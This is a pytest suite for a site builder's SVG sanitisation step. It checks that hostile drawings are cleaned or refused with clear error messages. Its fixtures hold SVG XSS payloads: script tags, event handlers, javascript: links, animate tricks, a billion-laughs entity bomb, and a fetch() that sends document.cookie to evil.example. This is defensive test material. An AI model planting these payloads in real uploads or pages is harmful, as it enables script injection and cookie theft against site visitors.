"""SVG drawings are published only as svg-hush's sanitised copy, or refused with the file named."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from lxml import etree

from builder.build import build
from builder.content import svg_clean
from builder.errors import BuildFailed
from tests.conftest import write_site

PAGE = "content/updates/2022-01-01-drawings.md"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
# Real attacks, as published in SVG-upload advisories: each runs or fetches when opened.
HOSTILE = {
    "script.svg": f'<svg {NS} width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>',
    "cdata.svg": f'<?xml version="1.0"?>\n<svg {NS}><script type="text/javascript"><![CDATA[ fetch("https://evil.example/?c="+document.cookie) ]]></script><circle r="4"/></svg>',
    "onload.svg": f'<svg {NS} onload="alert(1)"><rect width="5" height="5" onclick="alert(2)" onmouseover="alert(3)"/></svg>',
    "jslink.svg": f'<svg {NS}><a xlink:href="javascript:alert(1)"><text y="15">click</text></a><a href="javascript:alert(2)"><rect width="5" height="5"/></a></svg>',
    "foreign.svg": f'<svg {NS}><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject><rect width="5" height="5"/></svg>',
    "external.svg": f'<svg {NS}><image href="http://tracker.example/pixel.png" width="1" height="1"/><use xlink:href="https://evil.example/sprite.svg#x"/><rect style="fill:url(http://evil.example/p.svg#g)" width="5" height="5"/><style>@import url(https://evil.example/x.css); rect {{ fill: url(http://evil.example/b.svg#p) }}</style></svg>',
    "animate.svg": f'<svg {NS}><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "animate2.svg": f'<svg {NS}><a><animate attributeName="xlink:href" values="javascript:alert(1)"/><text y="20">x</text></a><set attributeName="onclick" to="alert(1)"/></svg>',
    "xhtml.svg": f'<svg {NS}><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script><rect width="5" height="5"/></svg>',
    "DRAWING.SVG": f'<svg {NS}><script>alert(1)</script><rect width="5" height="5"/></svg>',  # any case of the ending
    "chart.xml": f'<svg {NS}><script>alert(1)</script><rect width="5" height="5"/></svg>',  # known by its content
}
GOOD = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg {NS} viewBox="0 0 200 100" width="200" height="100" role="img" aria-labelledby="t">
  <title id="t">Waiting times fell from 30\u00a0weeks to 18</title>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#005ea5"/><stop offset="1" stop-color="#fff"/></linearGradient>
  <style>.bar {{ fill: url(#g); }}</style></defs>
  <rect class="bar" x="10" y="10" width="50" height="80"/>
  <use xlink:href="#label" x="5"/><text id="label" x="70" y="50">30 → 18 &amp; more</text>
</svg>"""


ANIMATIONS = ("animate", "set", "animatetransform", "animatemotion")
CSS_FETCHES = re.compile(r"url\(\s*['\"]?\s*(https?:|//)|@import", re.IGNORECASE)
FETCHES = re.compile(r"javascript:|^\s*(https?:)?//|" + CSS_FETCHES.pattern, re.IGNORECASE)


def _unsafe(tree) -> list[str]:
    """Everything in a parsed SVG that could run a script or fetch from another server."""
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        namespace, _, name = element.tag.rpartition("}")
        if name.lower() in ("script", "foreignobject", "iframe") or (namespace and "svg" not in namespace):
            found.append(f"<{name}>")
        target = element.get("attributeName", "").lower()
        if name.lower() in ANIMATIONS and (target.endswith("href") or target.startswith("on")):
            found.append(f"<{name}> changes {target}")  # what its values= or to= would then become
        for attribute, value in element.attrib.items():
            local = attribute.rpartition("}")[2].lower()
            if local.startswith("on"):
                found.append(f"{local}=")
            # An animation's values only matter with a dangerous attributeName, checked above.
            if FETCHES.search(value) and not (name.lower() in ANIMATIONS and local in ("values", "to", "from", "by")):
                found.append(f"{local}={value}")
        if name == "style" and CSS_FETCHES.search(element.text or ""):
            found.append("<style> fetches")
    return found


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    body = "---\ntitle: Drawings\ndate: 2022-01-01\n---\n" + "".join(f"![A drawing]({'files/' + n})\n\n" for n in HOSTILE
                                                                    if n.lower().endswith(".svg"))
    body += "[The chart](files/chart.xml) and ![The good chart](files/good.svg)\n"
    files = {f"content/updates/files/{name}": text for name, text in HOSTILE.items()}
    site = write_site(tmp_path_factory.mktemp("svg") / "site", {PAGE: body, "content/updates/files/good.svg": GOOD, **files})
    build(site, jobs=1)
    return site


def test_the_hostile_drawings_are_hostile():
    """Without this, the test below could pass on drawings that had nothing in them to remove."""
    for name, text in HOSTILE.items():
        assert _unsafe(etree.fromstring(text.encode())), name


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_published_drawing_can_run_or_fetch(built, name):
    published = built / "output/updates/files" / name
    tree = etree.fromstring(published.read_bytes())  # still well-formed XML, so browsers show it
    assert tree.tag == "{http://www.w3.org/2000/svg}svg"
    assert _unsafe(tree) == [], name


def test_a_harmless_drawing_keeps_what_it_draws(built):
    tree = etree.fromstring((built / "output/updates/files/good.svg").read_bytes())
    svg = "{http://www.w3.org/2000/svg}"
    assert tree.get("viewBox") == "0 0 200 100" and tree.get("role") == "img"
    assert tree.find(f"{svg}title").text == "Waiting times fell from 30\u00a0weeks to 18"
    assert tree.find(f"{svg}defs/{svg}linearGradient").get("id") == "g"
    assert "url(#g)" in tree.find(f"{svg}defs/{svg}style").text
    assert tree.find(f"{svg}text").text == "30 → 18 & more"
    assert tree.find(f"{svg}use").get("href") == "#label"  # a link inside the drawing is kept


def _errors(site: Path) -> list:
    with pytest.raises(BuildFailed) as failed:
        build(site, jobs=1)
    assert not (site / "output").exists()
    return list(failed.value.errors)


DEEP = "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 100_000 + "</g>" * 100_000 + "</svg>"
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
          '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;&b;&b;</text></svg>')


@pytest.mark.parametrize("text, says", [
    (DEEP, "nested more than 100 levels deep"),
    (LAUGHS, "declares its own XML entities"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "not well-formed XML (at its line 1)"),
    ("<html><body>Not a drawing</body></html>", "cannot be read as an SVG drawing"),
])
def test_a_drawing_that_cannot_be_sanitised_is_refused_naming_the_page_and_line(tmp_path, text, says):
    body = "---\ntitle: Drawings\ndate: 2022-01-01\n---\nIntro.\n\n![A map](files/map.svg)\n"
    site = write_site(tmp_path / "site", {PAGE: body, "content/updates/files/map.svg": text})
    (error,) = _errors(site)  # the deep one ran for minutes in the sanitiser: it is refused before it
    assert (error.path, error.line) == (PAGE, 7) and "files/map.svg" in error.message and says in error.message
    assert "export it again as SVG" in error.hint


def test_a_drawing_no_page_shows_is_refused_naming_the_file(tmp_path):
    body = "---\ntitle: Drawings\ndate: 2022-01-01\n---\nSee [the map](files/map.svg).\n"
    site = write_site(tmp_path / "site", {PAGE: body, "content/updates/files/map.svg": LAUGHS})
    (error,) = _errors(site)
    assert error.path == "content/updates/files/map.svg" and "entities" in error.message


def test_a_new_sanitiser_cleans_every_drawing_again(tmp_path, monkeypatch):
    body = "---\ntitle: Drawings\ndate: 2022-01-01\n---\n![A chart](files/good.svg)\n"
    site = write_site(tmp_path / "site", {PAGE: body, "content/updates/files/good.svg": GOOD})
    build(site, jobs=1)
    calls = []
    real = svg_clean.clean_svg
    monkeypatch.setattr(svg_clean, "clean_svg", lambda data: calls.append(len(data)) or real(data))
    build(site, jobs=1, use_cache=False)  # a whole build (the image store is used even so)
    assert calls == []  # kept in the image store while nothing changes
    monkeypatch.setattr(svg_clean, "settings", lambda: "svg-hush 9.9.9 depth=100 data-urls=none")
    build(site, jobs=1, use_cache=False)
    assert len(calls) == 1  # a stored copy made by another sanitiser is never reused
